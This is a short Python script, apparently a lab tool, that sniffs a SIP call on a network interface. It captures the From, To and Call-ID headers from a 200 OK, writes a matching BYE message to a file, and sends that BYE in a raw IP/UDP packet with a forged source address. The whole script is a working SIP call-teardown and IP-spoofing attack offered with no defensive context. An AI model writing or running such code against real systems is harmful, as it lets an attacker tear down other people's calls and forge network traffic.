#!/usr/bin/env python3
"""Reads a dialog from an interface and writes its BYE to a file (INTERFACE FILE), or sends that from a forged address
(FILE SOURCE TARGET)."""
import re
import socket
import struct
import sys


def read(interface, path):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
    wire.bind((interface, 0))
    wire.settimeout(20)
    while True:
        text = wire.recv(4096)[42:].decode(errors="replace")
        if text.startswith("SIP/2.0 200") and " INVITE\r\n" in text:
            break
    headers = {name.lower(): value for name, value in re.findall(r"([A-Za-z-]+): *([^\r\n]*)", text)}
    lines = ["BYE sip:192.0.2.102:5060 SIP/2.0", "Via: SIP/2.0/UDP 192.0.2.101:5060;branch=z9hG4bKnobodys", "Max-Forwards: 70",
             f"From: {headers['from']}", f"To: {headers['to']}", f"Call-ID: {headers['call-id']}", "CSeq: 77 BYE",
             "Content-Length: 0", "", ""]
    with open(path, "wb") as file:
        file.write("\r\n".join(lines).encode())


def send(path, source, target):
    with open(path, "rb") as file:
        message = file.read()
    datagram = struct.pack("!HHHH", 5060, 5060, 8 + len(message), 0) + message
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 4711, 0, 64, 17, 0, socket.inet_aton(source),
                         socket.inet_aton(target))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        wire.sendto(header + datagram, (target, 0))


read(*sys.argv[1:]) if len(sys.argv) == 3 else send(*sys.argv[1:])
